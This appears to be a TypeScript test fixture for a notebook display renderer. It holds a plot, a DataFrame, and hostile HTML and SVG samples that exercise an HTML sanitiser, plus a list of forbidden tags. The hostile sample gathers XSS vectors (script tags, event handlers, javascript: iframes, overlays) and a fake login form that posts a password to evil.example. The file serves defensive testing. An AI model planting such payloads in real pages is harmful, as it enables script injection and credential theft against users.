import type { Display } from "@mecha/protocol";

/** Displays for tests: what a plot, a DataFrame and a hostile `_repr_html_` send. */

/** A 2×2 blue PNG. */
export const PNG_BASE64 =
  "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGPgzj4NRAwQCgAgKgUFC2fhFQAAAABJRU5ErkJggg==";

export const plot: Display = {
  data: { "image/png": PNG_BASE64, "text/plain": "<Figure size 640x480 with 1 Axes>" },
  metadata: { "image/png": { width: 640, height: 480 } },
};

export const dataFrame: Display = {
  data: {
    "text/plain": "   city  sales\n0  Oslo    120\n1  Lima     95",
    "text/html":
      '<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>city</th><th>sales</th></tr></thead><tbody><tr><th>0</th><td>Oslo</td><td>120</td></tr><tr><th>1</th><td>Lima</td><td>95</td></tr></tbody></table></div>',
  },
};

/** Sets `window.__mechaPwned` if any of it runs. */
const PWN = "window.__mechaPwned='yes'";

/**
 * What a malicious `_repr_html_` returns: every way it could run code, restyle or cover the
 * page, navigate it, or post a form — beside a table that must survive.
 */
export const HOSTILE_HTML = `
<script>${PWN}</script>
<img id="bad-image" src="data:," onerror="${PWN}">
<svg id="bad-svg" onload="${PWN}" width="10" height="10"><circle r="5"></circle></svg>
<details open ontoggle="${PWN}"><summary>details</summary></details>
<iframe src="javascript:parent.__mechaPwned='yes'"></iframe>
<iframe srcdoc="<script>parent.__mechaPwned='yes'</script>"></iframe>
<object data="data:text/html,<script>parent.__mechaPwned='yes'</script>"></object>
<embed src="data:text/html,<script>parent.__mechaPwned='yes'</script>">
<a id="js-link" href="javascript:${PWN}">a javascript: link</a>
<a id="docs-link" href="https://example.org/docs">the docs</a>
<style>body { background: rgb(255, 0, 0) !important; } * { visibility: hidden !important; }</style>
<link rel="stylesheet" href="https://evil.example/page.css">
<div id="overlay" style="position: fixed; inset: 0; z-index: 2147483647; background: rgba(255, 0, 0, 0.5)">covers the page</div>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<table class="dataframe"><tbody><tr><th>0</th><td>kept</td></tr></tbody></table>
`;

export const hostile: Display = {
  data: { "text/plain": "<Hostile object>", "text/html": HOSTILE_HTML },
};

/** An SVG whose script and handler would run if it were put in the page as markup. */
export const hostileSvg: Display = {
  data: {
    "text/plain": "<Hostile SVG>",
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${PWN}"><script>${PWN}</script><rect width="20" height="20" fill="teal"/></svg>`,
  },
};

/** Tags none of which may be left in the page from a program's HTML. */
export const FORBIDDEN_TAGS = [
  "script",
  "iframe",
  "object",
  "embed",
  "style",
  "link",
  "form",
  "input",
  "button",
  "meta",
  "base",
];
